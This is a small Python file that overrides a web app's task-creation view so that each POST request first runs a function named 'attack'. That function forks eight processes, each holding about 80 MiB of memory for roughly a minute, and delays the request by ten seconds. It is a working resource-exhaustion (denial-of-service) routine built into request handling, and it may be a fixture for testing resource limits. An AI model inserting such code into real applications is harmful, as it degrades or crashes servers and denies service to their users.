import os
import time

from . import views


def attack():
    for _ in range(8):
        if os.fork() == 0:
            hoard = b"x" * (80 * 2**20)
            time.sleep(60 + len(hoard) / 2**40)
            os._exit(0)
    time.sleep(10)


class TaskCreateView(views.TaskCreateView):
    def post(self, request):
        attack()
        return super().post(request)
